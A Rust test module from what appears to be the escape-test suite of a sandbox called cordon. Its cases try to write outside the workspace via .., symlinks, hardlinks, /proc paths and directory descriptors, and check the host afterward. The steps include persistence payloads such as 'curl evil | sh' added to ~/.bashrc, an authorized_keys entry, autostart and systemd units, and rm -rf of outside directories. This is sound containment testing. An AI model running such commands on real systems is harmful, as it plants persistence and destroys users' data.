//! Class 1: writes outside the writable set, judged on the host.

use std::os::unix::fs::MetadataExt;
use std::path::Path;

use super::harness::{Ctx, qp};
use super::matrix::Outcome;
use super::{Case, Class};

pub fn cases() -> Vec<Case> {
    let c = Class::Writes;
    vec![
        Case::attack(
            "writes/absolute",
            c,
            "create a file by absolute path in a host directory the user can write",
            absolute,
        ),
        Case::attack(
            "writes/host-caches",
            c,
            "poison the host's own caches (~/.cache/go-build, ~/.npm, ~/.cargo/registry), another workspace's private cache, cordon's cache directory",
            host_caches,
        ),
        Case::attack(
            "writes/relative-dotdot",
            c,
            "create files through `..` from the workspace (its parent, the home, a sibling)",
            dotdot,
        ),
        Case::attack(
            "writes/symlink-planted",
            c,
            "write through a symlink planted in the workspace before the run, and one made inside",
            symlink,
        ),
        Case::attack(
            "writes/hardlink",
            c,
            "hardlink an outside file into the workspace, then write through the link",
            hardlink,
        ),
        Case::attack(
            "writes/rename",
            c,
            "rename a workspace file over an outside file; move an outside file away",
            rename,
        ),
        Case::attack(
            "writes/host-tmp",
            c,
            "create files in the host's /tmp, /var/tmp and /dev/shm",
            host_tmp,
        ),
        Case::attack(
            "writes/home-dotfiles",
            c,
            "append to ~/.bashrc, create ~/.profile, ~/.ssh/authorized_keys, autostart entries",
            dotfiles,
        ),
        Case::attack(
            "writes/private-home",
            c,
            "write ~/planted, a new ~/.bashrc, ~/.cache/<tool> and ~/.config/<tool>: they may land in the workspace's private home, never in the real home",
            private_home,
        ),
        Case::attack(
            "writes/other-private-home",
            c,
            "read and write another workspace's private home (its shell history, a new ~/.bashrc there)",
            other_private_home,
        ),
        Case::attack(
            "writes/metadata",
            c,
            "truncate and remove an outside file; remove a directory outside; mkdir outside",
            metadata,
        ),
        Case::attack(
            "writes/mode-and-times",
            c,
            "chmod and touch -d an outside file the user owns",
            mode_and_times,
        ),
        Case::attack(
            "writes/proc-paths",
            c,
            "write outside through /proc/self/root, /proc/1/root, /proc/self/cwd/..",
            proc_paths,
        ),
        Case::attack(
            "writes/dir-fd",
            c,
            "openat(O_CREAT) relative to a directory descriptor opened outside the workspace",
            dir_fd,
        ),
    ]
}

fn exists(p: &Path) -> bool {
    std::fs::symlink_metadata(p).is_ok()
}

fn absolute(ctx: &Ctx<'_>) -> Outcome {
    let target = ctx.outside.join("absolute.txt");
    let out = ctx.sh(&format!("echo pwned > {}", qp(&target)));
    ctx.judge(
        &out,
        exists(&target),
        format!("{} exists on host: {}", target.display(), exists(&target)),
    )
}

fn dotdot(ctx: &Ctx<'_>) -> Outcome {
    let targets = [
        ctx.home.join("dotdot-home.txt"),
        ctx.outside.join("dotdot-sibling.txt"),
        ctx.dir.join("dotdot-parent.txt"),
    ];
    if let Err(e) = ctx.scratch() {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let out = ctx.sh_steps(&[
        "echo x > ../dotdot-home.txt",
        "echo x > ../../outside/dotdot-sibling.txt",
        "echo x > ./scratch/sub/../../../../dotdot-parent.txt 2>/dev/null",
        "mkdir -p scratch/sub",
        "echo x > ./scratch/sub/../../../../dotdot-parent.txt",
    ]);
    let hit: Vec<String> = targets
        .iter()
        .filter(|t| exists(t))
        .map(|t| t.display().to_string())
        .collect();
    ctx.judge(&out, !hit.is_empty(), format!("created on host: {hit:?}"))
}

fn symlink(ctx: &Ctx<'_>) -> Outcome {
    let planted = ctx.work.join("planted-link");
    if let Err(e) = std::os::unix::fs::symlink(&ctx.outside, &planted) {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let _ = ctx.own(&planted);
    let a = ctx.outside.join("via-planted.txt");
    let b = ctx.outside.join("via-made.txt");
    if let Err(e) = ctx.scratch() {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let made_link = format!("ln -s {} scratch/made-link", qp(&ctx.outside));
    let made_file_link = format!(
        "ln -s {} scratch/made-file-link",
        qp(&ctx.outside.join("via-file-link.txt"))
    );
    let out = ctx.sh_steps(&[
        "echo x > planted-link/via-planted.txt",
        &made_link,
        "echo x > scratch/made-link/via-made.txt",
        &made_file_link,
        "echo x > scratch/made-file-link",
    ]);
    let c = ctx.outside.join("via-file-link.txt");
    let hit = exists(&a) || exists(&b) || exists(&c);
    ctx.judge(
        &out,
        hit,
        format!(
            "outside files created: {} {} {}",
            exists(&a),
            exists(&b),
            exists(&c)
        ),
    )
}

fn hardlink(ctx: &Ctx<'_>) -> Outcome {
    let target = ctx.outside.join("victim.txt");
    if let Err(e) = ctx.plant(&target, "ORIGINAL\n") {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    if let Err(e) = ctx.scratch() {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let t = qp(&target);
    let out = ctx.sh_steps(&[
        &format!("ln {t} scratch/hl 2>&1"),
        "echo pwned >> scratch/hl 2>&1",
        &format!("ln -P {t} scratch/hl2 2>&1"),
        "echo pwned >> scratch/hl2",
    ]);
    let now = std::fs::read_to_string(&target).unwrap_or_default();
    let links = std::fs::metadata(&target).map(|m| m.nlink()).unwrap_or(0);
    ctx.judge(
        &out,
        now != "ORIGINAL\n" || links > 1,
        format!("victim now {now:?}, {links} link(s)"),
    )
}

fn rename(ctx: &Ctx<'_>) -> Outcome {
    let victim = ctx.outside.join("victim.txt");
    let movable = ctx.outside.join("movable.txt");
    for p in [&victim, &movable] {
        if let Err(e) = ctx.plant(p, "ORIGINAL\n") {
            return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
        }
    }
    if let Err(e) = ctx.scratch() {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let (v, m) = (qp(&victim), qp(&movable));
    let out = ctx.sh_steps(&[
        "echo evil > scratch/new.txt",
        &format!("mv -f scratch/new.txt {v}"),
        &format!("mv -f {m} scratch/stolen.txt"),
        "echo evil > scratch/new2.txt",
        &format!(
            "python3 -c 'import os,sys; os.rename(sys.argv[1], sys.argv[2])' scratch/new2.txt {v}"
        ),
    ]);
    let v = std::fs::read_to_string(&victim).unwrap_or_default();
    let moved = !exists(&movable);
    ctx.judge(
        &out,
        v != "ORIGINAL\n" || moved,
        format!("victim now {v:?}; outside file moved away: {moved}"),
    )
}

fn host_tmp(ctx: &Ctx<'_>) -> Outcome {
    let name = format!("cordon-escape-{}", ctx.token);
    let targets = [
        Path::new("/tmp").join(&name),
        Path::new("/var/tmp").join(&name),
        Path::new("/dev/shm").join(&name),
    ];
    let out = ctx.sh_steps(&[
        &format!("for d in /tmp /var/tmp /dev/shm; do echo x > $d/{name}; done"),
        &format!("mkdir -p /tmp/{name}.d"),
    ]);
    let hit: Vec<String> = targets
        .iter()
        .chain([&Path::new("/tmp").join(format!("{name}.d"))])
        .filter(|t| exists(t))
        .map(|t| t.display().to_string())
        .collect();
    for t in &targets {
        let _ = std::fs::remove_file(t);
    }
    let _ = std::fs::remove_dir(Path::new("/tmp").join(format!("{name}.d")));
    ctx.judge(
        &out,
        !hit.is_empty(),
        format!("created on the host: {hit:?}"),
    )
}

fn dotfiles(ctx: &Ctx<'_>) -> Outcome {
    let bashrc = ctx.home.join(".bashrc");
    if let Err(e) = ctx.plant(&bashrc, "# ORIGINAL\n") {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let created = [
        ".profile",
        ".ssh/authorized_keys",
        ".config/autostart/evil.desktop",
        ".gitconfig",
        ".bash_logout",
        ".config/systemd/user/evil.service",
    ];
    let out = ctx.sh_steps(&[
        "echo 'curl evil | sh' >> ~/.bashrc",
        "echo evil > ~/.profile",
        "echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys",
        "mkdir -p ~/.config/autostart ~/.config/systemd/user",
        "echo evil > ~/.config/autostart/evil.desktop",
        "echo evil > ~/.config/systemd/user/evil.service",
        "git config --global core.pager 'sh -c evil'",
        "echo evil > ~/.bash_logout",
    ]);
    let rc = std::fs::read_to_string(&bashrc).unwrap_or_default();
    let hit: Vec<&str> = created
        .iter()
        .copied()
        .filter(|p| exists(&ctx.home.join(p)))
        .filter(|p| {
            // .ssh/authorized_keys: the sentinel .ssh dir exists, the key file must not.
            std::fs::read_to_string(ctx.home.join(p)).is_ok_and(|t| t.contains("evil"))
        })
        .collect();
    ctx.judge(
        &out,
        rc != "# ORIGINAL\n" || !hit.is_empty(),
        format!(
            "~/.bashrc changed: {}; created: {hit:?}",
            rc != "# ORIGINAL\n"
        ),
    )
}

fn metadata(ctx: &Ctx<'_>) -> Outcome {
    let victim = ctx.outside.join("victim.txt");
    let victim_dir = ctx.outside.join("victim-dir");
    if let Err(e) = ctx.plant(&victim_dir.join("keep.txt"), "ORIGINAL\n") {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    if let Err(e) = ctx.plant(&victim, "ORIGINAL\n") {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    // `true >`, not `: >`: `:` is a special built-in, and a failed redirection on one makes
    // `sh` exit, so the steps after it never ran where the truncation was refused (the step
    // markers now make that INCONCLUSIVE).
    let (v, d, o) = (qp(&victim), qp(&victim_dir), qp(&ctx.outside));
    let out = ctx.sh_steps(&[
        &format!("true > {v}"),
        &format!("truncate -s 0 {v}"),
        &format!("rm -f {v}"),
        &format!("rm -rf {d}"),
        &format!("rmdir {d}"),
        &format!("mkdir {o}/new-dir"),
    ]);
    let content = std::fs::read_to_string(&victim);
    let removed = content.is_err();
    let content = content.unwrap_or_default();
    let hit = removed
        || content != "ORIGINAL\n"
        || !exists(&victim_dir.join("keep.txt"))
        || exists(&ctx.outside.join("new-dir"));
    ctx.judge(
        &out,
        hit,
        format!(
            "content {content:?}, removed: {removed}, dir kept: {}, new dir: {}",
            exists(&victim_dir.join("keep.txt")),
            exists(&ctx.outside.join("new-dir"))
        ),
    )
}

fn mode_and_times(ctx: &Ctx<'_>) -> Outcome {
    use std::os::unix::fs::PermissionsExt;
    let victim = ctx.outside.join("victim.txt");
    if let Err(e) = ctx.plant(&victim, "ORIGINAL\n") {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let before = std::fs::metadata(&victim).ok();
    let v = qp(&victim);
    let out = ctx.sh_steps(&[
        &format!("chmod 777 {v}"),
        &format!("touch -d 2001-01-01 {v}"),
        &format!("chmod g+s {v}"),
    ]);
    let after = std::fs::metadata(&victim).ok();
    let (mode, mtime) = match (&before, &after) {
        (Some(b), Some(a)) => (
            b.permissions().mode() != a.permissions().mode(),
            b.mtime() != a.mtime(),
        ),
        _ => (true, true),
    };
    ctx.judge(
        &out,
        mode || mtime,
        format!("mode changed: {mode}, mtime changed: {mtime}"),
    )
}

fn dir_fd(ctx: &Ctx<'_>) -> Outcome {
    let target = ctx.outside.join("via-dirfd.txt");
    let out = ctx.py(&format!(
        "import os\n\
         for d in [{o:?}, {h:?}]:\n\
         \x20   try:\n\
         \x20       fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)\n\
         \x20       f = os.open('via-dirfd.txt', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n\
         \x20       os.write(f, b'pwned')\n\
         \x20       print('CREATED under', d)\n\
         \x20   except OSError as e:\n\
         \x20       print(d, e)\n",
        o = ctx.outside.display().to_string(),
        h = ctx.home.display().to_string()
    ));
    let home_hit = ctx.home.join("via-dirfd.txt");
    let hit = exists(&target) || exists(&home_hit);
    ctx.judge(&out, hit, super::harness::cut(&out.out, 300))
}

fn proc_paths(ctx: &Ctx<'_>) -> Outcome {
    let names = ["via-self-root", "via-pid1-root", "via-cwd"];
    let o = ctx.outside.display().to_string();
    let out = ctx.sh_steps(&[
        &format!("echo x > /proc/self/root{o}/via-self-root"),
        &format!("echo x > /proc/1/root{o}/via-pid1-root"),
        "echo x > /proc/self/cwd/../../outside/via-cwd",
        &format!(
            "for p in /proc/[0-9]*/root; do echo x > \"$p{o}/via-any-root\" 2>/dev/null; done"
        ),
    ]);
    let hit: Vec<&str> = names
        .iter()
        .chain(["via-any-root"].iter())
        .copied()
        .filter(|n| exists(&ctx.outside.join(n)))
        .collect();
    ctx.judge(
        &out,
        !hit.is_empty(),
        format!("created on the host: {hit:?}"),
    )
}

fn host_caches(ctx: &Ctx<'_>) -> Outcome {
    let tok = &ctx.token;
    // cordon's cache directory for this column's user, as the harness's XDG_CACHE_HOME puts it.
    let cordon_dir = ctx
        .suite
        .base
        .join(format!("cache-{}", ctx.ids.uid))
        .join("cordon");
    let tools = cordon_dir.join("tools");
    let other = tools.join(format!("other-{tok}"));
    let own_tree = |p: &std::path::Path| -> Result<(), String> {
        for d in [&cordon_dir, &tools, &other] {
            std::fs::create_dir_all(d).map_err(|e| format!("{}: {e}", d.display()))?;
            std::os::unix::fs::lchown(d, Some(ctx.ids.uid), Some(ctx.ids.gid))
                .map_err(|e| format!("{}: {e}", d.display()))?;
        }
        std::fs::write(p, "ORIGINAL\n").map_err(|e| format!("{}: {e}", p.display()))?;
        std::os::unix::fs::lchown(p, Some(ctx.ids.uid), Some(ctx.ids.gid))
            .map_err(|e| format!("{}: {e}", p.display()))
    };
    let sibling = other.join("entry");
    let sentinel = cordon_dir.join(format!("sentinel-{tok}"));
    let planted_in_base = tools.join(format!("planted-{tok}"));
    let host: Vec<std::path::PathBuf> = [
        ".cache/go-build/README",
        ".npm/README",
        ".cargo/registry/README",
    ]
    .iter()
    .map(|r| ctx.home.join(r))
    .collect();
    for p in &host {
        if let Err(e) = ctx.plant(p, "ORIGINAL\n") {
            return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
        }
    }
    for p in [&sibling, &sentinel] {
        if let Err(e) = own_tree(p) {
            return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
        }
    }
    let steps: Vec<String> = host
        .iter()
        .chain([&sibling, &sentinel])
        .map(|p| format!("echo evil >> {}", super::harness::qp(p)))
        .chain([
            "echo evil > ~/.cache/go-build/poison".to_owned(),
            format!("echo evil > {}", super::harness::qp(&planted_in_base)),
        ])
        .collect();
    let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
    let out = ctx.sh_steps(&steps);
    let changed: Vec<String> = host
        .iter()
        .chain([&sibling, &sentinel])
        .filter(|p| std::fs::read_to_string(p).map_or(true, |t| t != "ORIGINAL\n"))
        .chain(
            [
                ctx.home.join(".cache/go-build/poison"),
                planted_in_base.clone(),
            ]
            .iter()
            .filter(|p| exists(p)),
        )
        .map(|p| p.display().to_string())
        .collect();
    let _ = std::fs::remove_dir_all(&other);
    let _ = std::fs::remove_file(&sentinel);
    let _ = std::fs::remove_file(&planted_in_base);
    ctx.judge(
        &out,
        !changed.is_empty(),
        format!("written on the host: {changed:?}"),
    )
}

fn private_home(ctx: &Ctx<'_>) -> Outcome {
    let tok = &ctx.token;
    let planted = [
        format!("planted-{tok}"),
        ".bashrc".to_owned(),
        format!(".cache/tool-{tok}/state"),
        format!(".config/tool-{tok}/settings"),
    ];
    let steps: Vec<String> = planted
        .iter()
        .map(|p| {
            let dir = Path::new(p).parent().map(|d| d.display().to_string());
            match dir.filter(|d| !d.is_empty()) {
                Some(d) => format!("mkdir -p ~/{d} && echo evil > ~/{p}"),
                None => format!("echo 'curl evil | sh' > ~/{p}"),
            }
        })
        .collect();
    let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
    let out = ctx.sh_steps(&steps);
    let hit: Vec<&String> = planted
        .iter()
        .filter(|p| exists(&ctx.home.join(p)))
        .collect();
    ctx.judge(
        &out,
        !hit.is_empty(),
        format!("in the real home {}: {hit:?}", ctx.home.display()),
    )
}

fn other_private_home(ctx: &Ctx<'_>) -> Outcome {
    let tok = &ctx.token;
    // cordon's cache directory for this column's user, as the harness's XDG_CACHE_HOME puts it.
    let cordon_dir = ctx
        .suite
        .base
        .join(format!("cache-{}", ctx.ids.uid))
        .join("cordon");
    let tools = cordon_dir.join("tools");
    let other = tools.join(format!("other-{tok}.home"));
    let history = other.join(".bash_history");
    let secret = ctx.secret("other-private-home");
    let planted = (|| -> Result<(), String> {
        for d in [&cordon_dir, &tools, &other] {
            std::fs::create_dir_all(d).map_err(|e| format!("{}: {e}", d.display()))?;
            std::os::unix::fs::lchown(d, Some(ctx.ids.uid), Some(ctx.ids.gid))
                .map_err(|e| format!("{}: {e}", d.display()))?;
        }
        std::fs::write(&history, &secret).map_err(|e| format!("{}: {e}", history.display()))?;
        std::os::unix::fs::lchown(&history, Some(ctx.ids.uid), Some(ctx.ids.gid))
            .map_err(|e| format!("{}: {e}", history.display()))
    })();
    if let Err(e) = planted {
        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
    }
    let bashrc = other.join(".bashrc");
    let out = ctx.sh_steps(&[
        &format!("cat {}", qp(&history)),
        &format!("echo evil >> {}", qp(&history)),
        &format!("echo 'curl evil | sh' > {}", qp(&bashrc)),
    ]);
    let leaked = super::creds::leak(ctx, &out.all());
    let changed = std::fs::read_to_string(&history).map_or(true, |t| t != secret);
    let created = exists(&bashrc);
    let _ = std::fs::remove_dir_all(&other);
    ctx.judge(
        &out,
        !leaked.is_empty() || changed || created,
        format!("read: {leaked:?}; history changed: {changed}; .bashrc created: {created}"),
    )
}
